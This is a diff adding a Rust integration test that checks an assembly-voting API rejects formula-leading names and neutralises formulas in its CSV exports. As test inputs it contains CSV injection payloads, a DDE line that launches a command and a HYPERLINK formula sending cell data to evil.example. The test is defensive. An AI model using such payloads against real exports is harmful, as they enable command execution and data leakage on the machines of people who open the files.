@@ -292,6 +292,42 @@ fn numbers_and_blank_names_are_bounded(db: TestDb) {
     }
 }
 
+fn spreadsheet_formulas_stay_text(db: TestDb) {
+    let n = network(db);
+    let a = n.assembly;
+    // Names never begin a formula; titles and documents are made text in
+    // the CSV exports.
+    let (status, out) = n.chair.post("/api/v1/organisations", json!({"name": "=1+1", "country": "BE", "kind": "full"}));
+    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_text")), "{out}");
+    let (status, out) = n.chair.post_csv("/api/v1/organisations/import", "name,country,kind\n@SUM(A1),BE,full\n");
+    assert_eq!((status, out["error"].as_str()), (422, Some("invalid_rows")), "{out}");
+    n.check_in(0, "remote");
+    n.delegates[2].ok(
+        &format!("/api/v1/assemblies/{a}/proxies"),
+        json!({"grantor_id": n.orgs[2], "holder_id": n.orgs[0], "document": "=cmd|' /C calc'!A0"}),
+        201,
+    );
+    let title = "=HYPERLINK(\"http://evil.example/\"&A1,\"Budget\")";
+    let motion = n.delegates[0].ok(&format!("/api/v1/assemblies/{a}/motions"), json!({"title": title}), 201);
+    let motion = motion["id"].as_i64().expect("motion");
+    for seconder in [1, 2] {
+        n.delegates[seconder].ok(&format!("/api/v1/motions/{motion}/seconders"), json!({}), 201);
+    }
+    n.chair.ok(&format!("/api/v1/motions/{motion}/admission"), json!({"admit": true}), 200);
+    let poll = n.chair.ok(&format!("/api/v1/motions/{motion}/polls"), json!({}), 201)["id"].as_i64().expect("poll");
+    n.delegates[0].ok(&format!("/api/v1/polls/{poll}/ballots"), json!({"choice": "yes"}), 201);
+    n.chair.ok(&format!("/api/v1/polls/{poll}/close"), json!({}), 200);
+    for file in ["roll-call.csv", "proxies.csv"] {
+        let (status, csv) = n.chair.get_text(&format!("/api/v1/assemblies/{a}/exports/{file}"));
+        assert_eq!(status, 200, "{file}: {csv}");
+        for cell in csv.lines().flat_map(|l| l.split(',')) {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{file}: {cell:?} in {csv}");
+        }
+        assert!(csv.contains("'="), "{file}: {csv}");
+    }
+}
+
 /// The defaults of config/default.toml.
 const MAX_MOTIONS: usize = 20;
 const MAX_OPINIONS: usize = 20;
@@ -369,4 +405,5 @@ both!(
     control_characters_are_refused_on_every_path,
     numbers_and_blank_names_are_bounded,
     one_organisation_cannot_flood_the_record,
+    spreadsheet_formulas_stay_text,
 );
